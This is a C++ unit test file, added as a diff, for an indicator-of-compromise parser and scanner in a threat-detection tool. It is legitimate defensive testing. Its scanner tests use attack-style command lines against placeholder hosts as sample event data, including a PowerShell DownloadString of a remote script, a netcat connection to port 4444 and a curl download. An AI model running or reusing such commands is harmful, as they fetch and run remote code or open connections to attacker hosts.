@@ -1,0 +1,407 @@
+#include "detect/indicator/indicator.h"
+
+#include <string>
+#include <string_view>
+#include <vector>
+
+#include <gmock/gmock.h>
+#include <gtest/gtest.h>
+
+#include "detect/indicator/diagnostics.h"
+#include "tests/support/memory_files.h"
+
+namespace longwatch::detect::indicator {
+namespace {
+
+using testing::ElementsAre;
+using testing::IsEmpty;
+
+struct Parsed {
+  LoadedIndicators loaded;
+  std::vector<Diagnostic> diagnostics;
+
+  /// "kind:value" of every indicator.
+  std::vector<std::string> keys() const {
+    std::vector<std::string> list;
+    for (const Indicator& indicator : loaded.indicators) {
+      list.push_back(std::string(to_text(indicator.kind)) + ":" + indicator.value);
+    }
+    return list;
+  }
+
+  std::vector<std::string> messages() const {
+    std::vector<std::string> list;
+    for (const Diagnostic& diagnostic : diagnostics) {
+      list.push_back(diagnostic.place.to_text() + " " + std::string(diagnostic.kind->id) + " " +
+                     diagnostic.message);
+    }
+    return list;
+  }
+};
+
+Parsed parse(std::string_view text) {
+  DiagnosticCollector diagnostics;
+  Parsed parsed;
+  parsed.loaded = parse_indicators(text, "list.txt", diagnostics);
+  parsed.diagnostics = diagnostics.diagnostics();
+  return parsed;
+}
+
+TEST(IndicatorList, recognises_every_kind) {
+  struct Case {
+    std::string_view line;
+    std::string_view key;
+  };
+
+  const std::vector<Case> cases = {
+      {"198.51.100.23", "ipv4:198.51.100.23"},
+      {"2001:DB8::0001", "ipv6:2001:db8::1"},
+      {"[2001:db8::2]", "ipv6:2001:db8::2"},
+      {"::ffff:198.51.100.7", "ipv4:198.51.100.7"},
+      {"203.0.113.77/26", "cidr:203.0.113.64/26"},
+      {"203.0.113.77/32", "ipv4:203.0.113.77"},
+      {"2001:db8::/32", "cidr:2001:db8::/32"},
+      {"Evil.Example.", "domain:evil.example"},
+      {"*.evil.example", "domain:evil.example"},
+      {"xn--bcher-kva.example", "domain:xn--bcher-kva.example"},
+      {"_dmarc.a-b.example", "domain:_dmarc.a-b.example"},
+      {"HTTP://Evil.Example:80", "url:http://evil.example/"},
+      {"https://evil.example:8443/A?b=c#d", "url:https://evil.example:8443/A?b=c"},
+      {"http://198.51.100.23/x.php?q=1,2", "url:http://198.51.100.23/x.php?q=1,2"},
+      {"http://[2001:db8::1]:8080/", "url:http://[2001:db8::1]:8080/"},
+      {"0CC175B9C0F1B6A831C399E269772661", "md5:0cc175b9c0f1b6a831c399e269772661"},
+      {"86f7e437faa5a7fce15d1ddcb9eaeaea377667b8", "sha1:86f7e437faa5a7fce15d1ddcb9eaeaea377667b8"},
+      {"ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb",
+       "sha256:ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb"},
+      {"Someone@Evil.Example", "mail:someone@evil.example"},
+      {"Dropper.EXE", "file:dropper.exe"},
+      {"my dropper.dll", "file:my dropper.dll"},
+      {"evil.sh", "domain:evil.sh"},
+      {"file:evil.sh", "file:evil.sh"},
+      {"domain:dropper.exe", "domain:dropper.exe"},
+      {"ip: 198.51.100.23", "ipv4:198.51.100.23"},
+      {"IPv6:2001:db8::1", "ipv6:2001:db8::1"},
+      {"md5:0cc175b9c0f1b6a831c399e269772661", "md5:0cc175b9c0f1b6a831c399e269772661"},
+      {"email:a.b+c@evil.example", "mail:a.b+c@evil.example"},
+      {"url:hxxp://evil.example/a", "url:http://evil.example/a"},
+  };
+  for (const Case& c : cases) {
+    const Parsed parsed = parse(c.line);
+    EXPECT_THAT(parsed.keys(), ElementsAre(c.key)) << c.line;
+    EXPECT_THAT(parsed.messages(), IsEmpty()) << c.line;
+  }
+}
+
+TEST(IndicatorList, accepts_defanged_texts) {
+  for (const std::string_view line :
+       {"hxxps://evil[.]example/a", "HXXPS[://]evil[.]example/a", "hxxps[:]//evil(.)example/a",
+        "h**ps://evil[dot]example/a", "https://evil{.}example/a", "hxxps://evil\\.example/a"}) {
+    EXPECT_THAT(parse(line).keys(), ElementsAre("url:https://evil.example/a")) << line;
+  }
+  EXPECT_THAT(
+      parse("198[.]51[.]100[.]23\nsomeone[at]evil[.]example\n2001:db8[:]:1\nevil(dot)example")
+          .keys(),
+      ElementsAre("ipv4:198.51.100.23", "mail:someone@evil.example", "ipv6:2001:db8::1",
+                  "domain:evil.example"));
+}
+
+TEST(IndicatorList, comments_notes_and_blank_lines) {
+  const Parsed parsed = parse(
+      "\xEF\xBB\xBF# a list\r\n\r\n  evil.example , seen in June, twice\r\n"
+      "203.0.113.9\tcommand and control # not part of it\n"
+      "http://evil.example/a,b\thas a comma\n\"http://evil.example/c\", \"quoted\"\n"
+      "http://evil.example/#fragment\nhttp://evil.example/d, note\n   # indented\n");
+  EXPECT_THAT(parsed.keys(), ElementsAre("domain:evil.example", "ipv4:203.0.113.9",
+                                         "url:http://evil.example/a,b", "url:http://evil.example/c",
+                                         "url:http://evil.example/", "url:http://evil.example/d"));
+  std::vector<std::string> notes;
+  for (const Indicator& indicator : parsed.loaded.indicators) {
+    notes.push_back(indicator.note);
+  }
+  EXPECT_THAT(notes, ElementsAre("seen in June, twice", "command and control", "has a comma",
+                                 "quoted", "", "note"));
+  EXPECT_EQ(parsed.loaded.indicators[1].line, 4U);
+  EXPECT_THAT(parsed.messages(), IsEmpty());
+}
+
+TEST(IndicatorList, says_where_and_why_a_line_is_no_indicator) {
+  const Parsed parsed = parse(
+      "localhost\n   what is this\nb\xC3\xBC"
+      "cher.example\nmd5:abc\n"
+      "0cc175b9c0f1b6a831c399e2697726\nsha1:0cc175b9c0f1b6a831c399e269772661\n"
+      "300.1.1.1\nhttp://\n,note only\n1.2.3\n");
+  EXPECT_THAT(
+      parsed.messages(),
+      ElementsAre(
+          "list.txt:1:1 indicator-unknown 'localhost': expected an address, domain, URL, digest, "
+          "mail address or file name, got one word; line skipped",
+          "list.txt:2:4 indicator-unknown 'what is this': expected an address, domain, URL, "
+          "digest, "
+          "mail address or file name; line skipped",
+          testing::HasSubstr("expected ASCII, got other characters; write domains as xn--..."),
+          "list.txt:4:1 indicator-unknown 'md5:abc': expected 32 hex digits; line skipped",
+          testing::HasSubstr("expected 32, 40 or 64 hex digits, got 30"),
+          testing::HasSubstr("expected 40 hex digits"), testing::HasSubstr("'300.1.1.1'"),
+          testing::HasSubstr("'http://'"), testing::HasSubstr("list.txt:9:1"),
+          testing::HasSubstr("'1.2.3'")));
+  EXPECT_EQ(parsed.loaded.refused, 10U);
+  EXPECT_THAT(parsed.keys(), IsEmpty());
+}
+
+TEST(IndicatorList, refuses_what_would_match_everywhere) {
+  for (const std::string_view line :
+       {"0.0.0.0/0",
+        "10.1.2.3",
+        "192.168.0.0/16",
+        "127.0.0.1",
+        "172.16.5.5",
+        "169.254.1.1",
+        "224.0.0.251",
+        "255.255.255.255",
+        "100.64.0.1",
+        "198.0.0.0/7",
+        "0.0.0.0",
+        "::/0",
+        "::1",
+        "::",
+        "fe80::1",
+        "fd00::1",
+        "ff02::1",
+        "2000::/3",
+        "::ffff:10.0.0.1",
+        "co.uk",
+        "*.com.au",
+        "d41d8cd98f00b204e9800998ecf8427e",
+        "da39a3ee5e6b4b0d3255bfef95601890afd80709",
+        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"}) {
+    const Parsed parsed = parse(line);
+    EXPECT_THAT(parsed.keys(), IsEmpty()) << line;
+    ASSERT_EQ(parsed.diagnostics.size(), 1U) << line;
+    EXPECT_EQ(parsed.diagnostics[0].kind, &kBroadIndicator) << line;
+  }
+}
+
+TEST(IndicatorList, duplicates_are_told_and_kept_once) {
+  DiagnosticCollector diagnostics;
+  test_support::MemoryFiles files;
+  files.add_file("/a.txt", "# first\nevil.example\n");
+  files.add_file("/b.txt", "EVIL[.]example\nhttp://evil.example/\n");
+  const auto loaded = load_indicators({"/a.txt", "/b.txt"}, files, diagnostics);
+  ASSERT_TRUE(loaded.ok());
+  EXPECT_EQ(loaded->indicators.size(), 2U);
+  EXPECT_EQ(loaded->indicators[1].file, 1U);
+  EXPECT_EQ(loaded->refused, 0U);
+  ASSERT_EQ(diagnostics.count(), 1U);
+  EXPECT_EQ(diagnostics.diagnostics()[0].message, "'evil.example' stands already in /a.txt:2");
+  EXPECT_EQ(diagnostics.diagnostics()[0].place.to_text(), "/b.txt:1:1");
+  EXPECT_EQ(load_indicators({"/absent"}, files, diagnostics).error().code(), ErrorCode::NotFound);
+}
+
+/// Findings as text: "matched @ field=..., entity".
+class FindingTexts final : public model::FindingSink {
+ public:
+  void accept(model::Finding finding) override {
+    findings.push_back(finding.matched);
+    full.push_back(std::move(finding));
+  }
+
+  std::vector<std::string> findings;
+  std::vector<model::Finding> full;
+};
+
+/// A list ready to scan single events.
+class Scanner {
+ public:
+  explicit Scanner(std::string_view list)
+      : fields_(std::make_shared<model::FieldTable>()),
+        set_(compile(parse(list).loaded, *fields_)),
+        detector_(make_detector(set_, fields_)),
+        state_(detector_->make_state()) {}
+
+  /// What is found in an event with these fields.
+  std::vector<std::string> scan(
+      const std::vector<std::pair<std::string_view, std::string_view>>& values) {
+    model::EventBatch batch;
+    std::vector<model::FieldValue> list;
+    for (const auto& [name, text] : values) {
+      const std::optional<model::FieldId> field = fields_->find(name);
+      list.push_back({model::text_value(text), field.value_or(model::kUnnamedField)});
+    }
+    model::Event event;
+    event.locator.record = 7;
+    event.values = batch.keep(list);
+    batch.add(event);
+    FindingTexts sink;
+    detector_->scan(batch, *state_, sink);
+    last = std::move(sink.full);
+    return sink.findings;
+  }
+
+  const model::FieldTable& fields() const { return *fields_; }
+
+  std::vector<model::Finding> last;
+
+ private:
+  std::shared_ptr<model::FieldTable> fields_;
+  std::shared_ptr<const IndicatorSet> set_;
+  std::unique_ptr<Detector> detector_;
+  std::unique_ptr<DetectorState> state_;
+};
+
+TEST(IndicatorScan, addresses_match_as_addresses) {
+  Scanner scanner("198.51.100.23\n2001:db8::1\n203.0.113.0/24\n203.0.113.64/26\n2001:db8:1::/48\n");
+  EXPECT_THAT(scanner.scan({{"DestinationIp", "198.51.100.23"}}), ElementsAre("198.51.100.23"));
+  EXPECT_THAT(scanner.scan({{"IpAddress", "::ffff:198.51.100.23"}}), ElementsAre("198.51.100.23"));
+  EXPECT_THAT(scanner.scan({{"SourceIp", "2001:0DB8:0:0::0001"}}), ElementsAre("2001:db8::1"));
+  EXPECT_THAT(scanner.scan({{"SourceIp", "fe80::1%eth0"}}), IsEmpty());
+  EXPECT_THAT(scanner.scan({{"ClientAddress", "[2001:db8::1]:443"}}), ElementsAre("2001:db8::1"));
+  EXPECT_THAT(scanner.scan({{"ClientAddress", "198.51.100.23:443"}}), ElementsAre("198.51.100.23"));
+  EXPECT_THAT(scanner.scan({{"DestAddress", "203.0.113.63"}}), ElementsAre("203.0.113.0/24"));
+  EXPECT_THAT(scanner.scan({{"DestAddress", "203.0.113.64"}}),
+              ElementsAre("203.0.113.0/24", "203.0.113.64/26"));
+  EXPECT_THAT(scanner.scan({{"DestAddress", "203.0.113.128"}}), ElementsAre("203.0.113.0/24"));
+  EXPECT_THAT(scanner.scan({{"DestAddress", "203.0.114.0"}}), IsEmpty());
+  EXPECT_THAT(scanner.scan({{"DestAddress", "203.0.112.255"}}), IsEmpty());
+  EXPECT_THAT(scanner.scan({{"src_ip", "2001:db8:1:ffff::1"}}), ElementsAre("2001:db8:1::/48"));
+  for (const std::string_view text :
+       {"", "-", "198.51.100.2", "198.51.100.230", "x", ":", "[", "::"}) {
+    EXPECT_THAT(scanner.scan({{"DestinationIp", text}}), IsEmpty()) << text;
+  }
+}
+
+TEST(IndicatorScan, domains_match_themselves_and_what_is_below) {
+  Scanner scanner("evil.example\nsub.other.example\n198.51.100.23\n");
+  for (const std::string_view host :
+       {"evil.example", "EVIL.Example.", "a.b.evil.example", "evil.example:443"}) {
+    EXPECT_THAT(scanner.scan({{"QueryName", host}}), ElementsAre("evil.example")) << host;
+  }
+  for (const std::string_view host : {"notevil.example", "evil.example.org", "example",
+                                      "other.example", "evil", "", ".", "evil.example.."}) {
+    EXPECT_THAT(scanner.scan({{"DestinationHostname", host}}), IsEmpty()) << host;
+  }
+  EXPECT_THAT(scanner.scan({{"cs-host", "198.51.100.23"}}), ElementsAre("198.51.100.23"));
+  EXPECT_THAT(scanner.scan({{"Url", "https://user@www.evil.example:8443/x?y"}}),
+              ElementsAre("evil.example"));
+}
+
+TEST(IndicatorScan, urls_match_as_a_whole) {
+  Scanner scanner("http://evil.example/a?b=1\nhttps://host.example:8443/\n");
+  EXPECT_THAT(scanner.scan({{"Url", "HTTP://EVIL.example:80/a?b=1#top"}}),
+              ElementsAre("http://evil.example/a?b=1"));
+  EXPECT_THAT(scanner.scan({{"c-uri", "evil.example/a?b=1"}}),
+              ElementsAre("http://evil.example/a?b=1"));
+  EXPECT_THAT(scanner.scan({{"c-uri", "host.example:8443"}}),
+              ElementsAre("https://host.example:8443/"));
+  EXPECT_THAT(scanner.scan({{"CommandLine", "curl -o x 'http://evil.example/a?b=1'; ls"}}),
+              ElementsAre("http://evil.example/a?b=1"));
+  EXPECT_THAT(scanner.scan({{"CommandLine", "see (http://evil.example/a?b=1)."}}),
+              ElementsAre("http://evil.example/a?b=1"));
+  for (const std::string_view url : {"http://evil.example/a?b=2", "http://evil.example/A?b=1",
+                                     "https://evil.example/a?b=1", "http://evil.example/", "://"}) {
+    EXPECT_THAT(scanner.scan({{"Url", url}, {"CommandLine", url}}), IsEmpty()) << url;
+  }
+}
+
+TEST(IndicatorScan, digests_files_and_mail_addresses) {
+  Scanner scanner(
+      "0cc175b9c0f1b6a831c399e269772661\n"
+      "ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb\nevil "
+      "tool.exe\nx@evil.example\n");
+  EXPECT_THAT(scanner.scan({{"Hashes",
+                             "MD5=0CC175B9C0F1B6A831C399E269772661,SHA256=CA978112CA1BBDCAFAC231B39"
+                             "A23DC4DA786EFF8147C4E72B9807785AFEE48BB,IMPHASH=00"}}),
+              ElementsAre("0cc175b9c0f1b6a831c399e269772661",
+                          "ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb"));
+  EXPECT_THAT(scanner.scan({{"md5", "0cc175b9c0f1b6a831c399e269772661"}}),
+              ElementsAre("0cc175b9c0f1b6a831c399e269772661"));
+  for (const std::string_view path : {"C:\\Temp\\Evil Tool.exe", "evil tool.exe",
+                                      "/tmp/evil tool.exe", "\"C:\\Temp\\evil tool.exe\""}) {
+    EXPECT_THAT(scanner.scan({{"Image", path}}), ElementsAre("evil tool.exe")) << path;
+  }
+  EXPECT_THAT(scanner.scan({{"Image", "C:\\notevil tool.exe"}, {"TargetFilename", "tool.exe"}}),
+              IsEmpty());
+  EXPECT_THAT(scanner.scan({{"Recipients", "A <a@b.example>; \"X\" <X@Evil.example>"}}),
+              ElementsAre("x@evil.example"));
+}
+
+TEST(IndicatorScan, command_lines_are_searched_for_hosts_and_addresses) {
+  Scanner scanner("198.51.100.23\nevil.example\n2001:db8::1\n");
+  const std::vector<std::pair<std::string_view, std::vector<std::string>>> cases = {
+      {"ping 198.51.100.23 -n 1", {"198.51.100.23"}},
+      {"nc 198.51.100.23:4444", {"198.51.100.23"}},
+      {"net use \\\\a.evil.example\\c$", {"evil.example"}},
+      {"powershell (New-Object Net.WebClient).DownloadString('http://www.evil.example/a.ps1')",
+       {"evil.example"}},
+      {"curl http://[2001:db8::1]:80/", {"2001:db8::1"}},
+      {"ssh user@evil.example", {"evil.example"}},
+      {"198.51.100.231 1198.51.100.23 evil.example.txt notevil.example", {}},
+      {"C:\\evil\\example.exe a.b.c.d.e.f.. ... ::: : . 1.2.3", {}},
+  };
+  for (const auto& [text, expected] : cases) {
+    EXPECT_EQ(scanner.scan({{"CommandLine", text}}), expected) << text;
+    EXPECT_EQ(scanner.scan({{"ScriptBlockText", text}}), expected) << text;
+  }
+}
+
+TEST(IndicatorScan, one_finding_for_each_indicator_and_event_with_all_it_says) {
+  Scanner scanner("evil.example, from the June report\n");
+  ASSERT_THAT(scanner.scan({{"QueryName", "a.evil.example"},
+                            {"Image", "C:\\x.exe"},
+                            {"CommandLine", "x evil.example"}}),
+              ElementsAre("evil.example"));
+  const model::Finding& finding = scanner.last[0];
+  EXPECT_EQ(finding.rule->title, "Indicator: evil.example");
+  EXPECT_EQ(finding.rule->kind, model::RuleKind::Indicator);
+  EXPECT_EQ(finding.rule->level, model::Level::High);
+  EXPECT_EQ(finding.rule->file, "list.txt");
+  EXPECT_THAT(finding.rule->id, testing::MatchesRegex("indicator-[0-9a-f]{16}"));
+  ASSERT_EQ(finding.events.size(), 1U);
+  EXPECT_EQ(finding.events[0].locator.record, 7U);
+  std::vector<std::string> fields;
+  for (const model::NamedText& field : finding.fields) {
+    fields.push_back(field.name + "=" + field.value);
+  }
+  EXPECT_THAT(fields,
+              testing::IsSupersetOf({"QueryName=a.evil.example", "CommandLine=x evil.example",
+                                     "Image=C:\\x.exe", "indicator.note=from the June report"}));
+  EXPECT_THAT(finding.entities,
+              testing::Contains(model::Entity{"domain", "a.evil.example", "indicator"}));
+}
+
+TEST(IndicatorScan, the_id_of_a_rule_depends_on_kind_and_value_alone) {
+  Scanner one("evil.example\n");
+  Scanner other("# other place\n198.51.100.1\nEVIL[.]example, note\n");
+  one.scan({{"QueryName", "evil.example"}});
+  other.scan({{"QueryName", "evil.example"}});
+  EXPECT_EQ(one.last.at(0).rule->id, other.last.at(0).rule->id);
+  // SHA-256 of "domain:evil.example".
+  EXPECT_EQ(one.last.at(0).rule->id, "indicator-e21b45c40cae4567");
+}
+
+TEST(IndicatorScan, only_fields_that_can_match_are_asked_for) {
+  const Scanner digests("0cc175b9c0f1b6a831c399e269772661\n");
+  EXPECT_TRUE(digests.fields().find("Hashes").has_value());
+  EXPECT_FALSE(digests.fields().find("c-uri").has_value());
+  EXPECT_FALSE(digests.fields().find("ScriptBlockText").has_value());
+  const Scanner urls("http://evil.example/\n");
+  EXPECT_TRUE(urls.fields().find("c-uri").has_value());
+  EXPECT_FALSE(urls.fields().find("rcptto").has_value());
+}
+
+TEST(IndicatorScan, nothing_is_found_without_indicators) {
+  Scanner scanner("# empty\n");
+  EXPECT_THAT(scanner.scan({{"CommandLine", "http://evil.example 198.51.100.1"}}), IsEmpty());
+}
+
+TEST(IndicatorDiagnostics, every_kind_has_an_own_id_and_explains_itself) {
+  std::vector<std::string_view> ids;
+  for (const DiagnosticKind* kind : all_diagnostics()) {
+    EXPECT_TRUE(kind->id.starts_with("indicator-")) << kind->id;
+    EXPECT_GT(kind->explanation.size(), 40U);
+    EXPECT_THAT(ids, testing::Not(testing::Contains(kind->id)));
+    ids.push_back(kind->id);
+  }
+}
+
+}  // namespace
+}  // namespace longwatch::detect::indicator
